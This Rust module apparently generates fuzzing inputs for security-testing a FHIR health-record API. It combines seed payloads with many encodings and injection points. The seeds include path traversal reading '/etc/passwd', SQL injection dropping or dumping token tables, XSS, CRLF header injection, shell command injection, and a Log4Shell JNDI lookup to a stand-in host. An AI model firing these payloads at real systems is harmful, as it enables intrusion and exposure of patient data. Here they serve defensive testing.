//! The attacks: everything that is worth sending, in every spelling, in every place.

/// Where it is put.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Place {
    /// In a path of the FHIR API, between these.
    Path(&'static str, &'static str),
    /// In a path of the chart API.
    Api(&'static str),
    /// As the value of a parameter of a search on a type.
    Query(&'static str, &'static str),
    /// As its name.
    QueryName(&'static str),
    /// In a posted form.
    Form(&'static str),
    /// As a header's value.
    Header(&'static str),
    /// Beside the launch's own cookie.
    Cookie,
    /// As the method.
    Method,
}

/// One malicious text in one place.
#[derive(Debug)]
pub(super) struct Attack {
    pub(super) place: Place,
    pub(super) text: String,
}

/// Whose traces are known from the field: traversal, other patients, other hosts, injection of every kind, odd bytes.
const SEEDS: [&str; 48] = [
    "../admin",
    "../../../../etc/passwd",
    "..\\..\\admin",
    "..;/admin",
    "/../Patient/b",
    "./Patient/b",
    "Patient/b",
    "Condition/of-b",
    "b",
    "a,b",
    "a|b",
    "Patient/a,Patient/b",
    "Patient/a/../b",
    "//evil.test/fhir",
    "{elsewhere}/fhir/Patient/a",
    "@evil.test/",
    "https://evil.test/Patient/a",
    "evil.test:80",
    "\r\nHost: evil.test\r\n\r\n",
    "\r\nX-Injected: 1",
    "\nSet-Cookie: a=b",
    "\0",
    "a\0b",
    "' OR '1'='1",
    "\"; DROP TABLE grants; --",
    "1) UNION SELECT token FROM grants",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "$(id)",
    "; id",
    "| cat /etc/passwd",
    "*",
    "%",
    "%zz",
    "$everything",
    "_history",
    "_search",
    "Patient?_id=b&patient=b",
    "a&patient=b",
    "a#fragment",
    "a;jsessionid=1",
    "\u{202e}b\u{200b}",
    "\u{ff0e}\u{ff0e}\u{ff0f}admin",
    "\u{fffd}\u{10ffff}",
    "{\"__proto__\":{\"a\":1}}",
    "-1e308",
];

const ENCODINGS: [fn(&str) -> String; 22] = [
    |s| s.to_owned(),
    percent,
    |s| percent(s).to_lowercase(),
    |s| percent(&percent(s)),
    |s| percent(&percent(&percent(s))),
    |s| reserved_only(s),
    |s| reserved_only(&reserved_only(s)),
    |s| reserved_only(s).replace("%2F", "/"),
    |s| reserved_only(s).replace("%2E", "."),
    |s| s.chars().map(|c| format!("%u{:04x}", u32::from(c) & 0xffff)).collect(),
    |s| s.bytes().map(|b| format!("%{:02X}%{:02X}", 0xc0 | (b >> 6), 0x80 | (b & 0x3f))).collect(),
    |s| s.chars().map(|c| format!("&#{};", u32::from(c))).collect(),
    |s| s.bytes().map(|b| format!("\\x{b:02x}")).collect(),
    |s| s.bytes().map(|b| format!("{b:02x}")).collect(),
    |s| reserved_only(&s.to_uppercase()),
    |s| reserved_only(&s.chars().rev().collect::<String>()),
    |s| format!("a{}", reserved_only(s)),
    |s| format!("{}a", reserved_only(s)),
    |s| format!("{}%00", reserved_only(s)),
    |s| format!("%20{}%09", reserved_only(s)),
    |s| reserved_only(s).repeat(40),
    |s| reserved_only(&s.replace('/', "\\")),
];

const PLACES: &[Place] = &[
    Place::Path("/", ""),
    Place::Path("", ""),
    Place::Path("/", "/a"),
    Place::Path("/", "/Patient/b"),
    Place::Path("/Condition/", ""),
    Place::Path("/Condition", ""),
    Place::Path("/Patient/", ""),
    Place::Path("/Patient/a", ""),
    Place::Path("/Patient/a/", ""),
    Place::Path("/Condition/1/_history/", ""),
    Place::Path("/Condition/", "/_history/1"),
    Place::Path("/Practitioner/", ""),
    Place::Path("/_page/", ""),
    Place::Path("/Condition/_search/", ""),
    Place::Path("/metadata", ""),
    Place::Api(""),
    Place::Api("chart/"),
    Place::Api("chart/problems"),
    Place::Api("source/"),
    Place::Api("source/Condition/"),
    Place::Api("source/Patient/"),
    Place::Query("Condition", "patient"),
    Place::Query("Condition", "subject"),
    Place::Query("Condition", "patient:Patient"),
    Place::Query("Condition", "subject:Patient"),
    Place::Query("Condition", "subject.identifier"),
    Place::Query("Condition", "_id"),
    Place::Query("Condition", "code"),
    Place::Query("Condition", "code:in"),
    Place::Query("Condition", "category"),
    Place::Query("Condition", "clinical-status"),
    Place::Query("Condition", "recorded-date"),
    Place::Query("Condition", "_lastUpdated"),
    Place::Query("Condition", "_count"),
    Place::Query("Condition", "_sort"),
    Place::Query("Condition", "_summary"),
    Place::Query("Condition", "_elements"),
    Place::Query("Condition", "_include"),
    Place::Query("Condition", "_revinclude"),
    Place::Query("Condition", "_has:Observation:patient:code"),
    Place::Query("Condition", "_filter"),
    Place::Query("Condition", "_query"),
    Place::Query("Condition", "_getpages"),
    Place::Query("Condition", "patient=a&patient"),
    Place::Query("Patient", "_id"),
    Place::Query("Patient", "name"),
    Place::Query("Observation", "patient"),
    Place::Query("Observation", "date"),
    Place::Query("Observation", "value-quantity"),
    Place::Query("Practitioner", "_id"),
    Place::Query("metadata", "mode"),
    Place::QueryName("Condition"),
    Place::QueryName("Patient"),
    Place::QueryName("Condition/1"),
    Place::Form("patient"),
    Place::Form("_id"),
    Place::Form("code"),
    Place::Form("patient=a&patient"),
    Place::Header("x-sallyport-feature"),
    Place::Header("x-sallyport-activity"),
    Place::Header("accept"),
    Place::Header("if-none-match"),
    Place::Header("origin"),
    Place::Header("host"),
    Place::Header("x-forwarded-host"),
    Place::Header("x-http-method-override"),
    Place::Header("x-original-url"),
    Place::Header("authorization"),
    Place::Header("content-type"),
    Place::Header("sec-fetch-site"),
    Place::Header("traceparent"),
    Place::Header("x-request-id"),
    Place::Header("range"),
    Place::Cookie,
    Place::Method,
];

/// Every attack; `elsewhere` is an address that must never be called.
pub(super) fn attacks(elsewhere: &str) -> Vec<Attack> {
    let each = SEEDS.len() * ENCODINGS.len() + naughty_strings::BLNS.len();
    let mut attacks = Vec::with_capacity(each * PLACES.len());
    for place in PLACES {
        for encode in ENCODINGS {
            for seed in SEEDS {
                let text = encode(&seed.replace("{elsewhere}", elsewhere));
                attacks.push(Attack { place: *place, text });
            }
        }
        // What breaks programs without any malice: the Big List of Naughty Strings.
        attacks.extend(
            naughty_strings::BLNS.iter().map(|text| Attack { place: *place, text: reserved_only(text) }),
        );
    }
    attacks
}

fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

/// Percent-encodes what cannot stand in a path or a query, and dots and slashes too.
fn reserved_only(text: &str) -> String {
    text.bytes()
        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
        .collect()
}
